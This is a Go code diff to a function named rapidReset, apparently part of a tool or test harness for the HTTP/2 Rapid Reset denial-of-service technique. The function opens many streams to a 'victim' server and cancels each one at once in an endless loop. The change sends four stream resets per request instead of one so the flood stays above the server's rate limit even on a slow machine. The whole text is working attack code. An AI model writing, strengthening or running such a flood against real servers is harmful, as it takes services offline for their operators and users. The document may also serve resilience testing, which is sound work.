@@ -6,6 +6,7 @@ import (
 	"context"
 	"crypto/tls"
 	"encoding/binary"
+	"errors"
 	"io"
 	"net"
 	"runtime"
@@ -64,9 +65,13 @@ func rapidReset(ctx context.Context, v *victim) {
 		}
 		go func() { _, _ = io.Copy(io.Discard, nc) }() // ends with the connection
 		block := v.request()
+		const resets = 4 // of each call: on a slow machine one alone would stay below the rate
 		for id := uint32(1); ; id += 2 {
 			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
-			if err != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			for range resets {
+				err = errors.Join(err, f.WriteRSTStream(id, http2.ErrCodeCancel))
+			}
+			if err != nil {
 				break
 			}
 			v.hits.Add(1)
